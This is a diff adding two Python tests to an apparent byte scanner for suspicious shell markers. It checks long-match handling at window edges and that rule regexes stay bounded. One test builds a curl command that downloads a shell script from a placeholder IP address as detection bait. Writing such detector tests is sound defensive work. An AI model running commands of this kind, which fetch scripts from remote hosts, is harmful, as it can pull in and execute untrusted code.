@@ -140,3 +140,24 @@ def test_needles_of_mixed_length_are_refused() -> None:
 def test_case_variants_fold_ascii_letters_only() -> None:
     assert needles.case_variants(b"?p") == {b"?p", b"?P"}
     assert needles.case_variants(b"s\xe9") == {b"s\xe9", b"S\xe9"}
+
+
+def test_long_marker_straddling_a_lowered_window_edge_is_found() -> None:
+    # `curl` with 5 KiB of options (two long -H values), starting 100 bytes before the
+    # edge of the first 4 MiB lower-cased window: its match runs ~5 KiB past the edge
+    options = b"-Hx-a:" + b"A" * 2600 + b" -Hx-b:" + b"B" * 2600 + b" "
+    marker = b"curl " + options + b"http://203.0.113.9/x.sh"
+    edge = markers.LOWERED_WINDOW_BYTES
+    data = bytes(edge - 100) + marker + bytes(64 * 1024)
+    found = find_markers(Reader.from_bytes(data), 0, len(data), False)
+    assert [(m.offset, m.kind) for m in found] == [(edge - 100, "shell")]
+
+
+def test_every_marker_rule_fits_in_the_window_overlap() -> None:
+    # a match that starts before a window's end is searched up to the overlap's end: no
+    # rule may match more bytes than that (unbounded `+`/`*` would be cut at an edge)
+    from re import _parser  # type: ignore[attr-defined]
+
+    for rule in markers._ALL:
+        longest = _parser.parse(rule.source.decode("latin-1")).getwidth()[1]
+        assert longest <= markers.WINDOW_OVERLAP_BYTES, rule.label
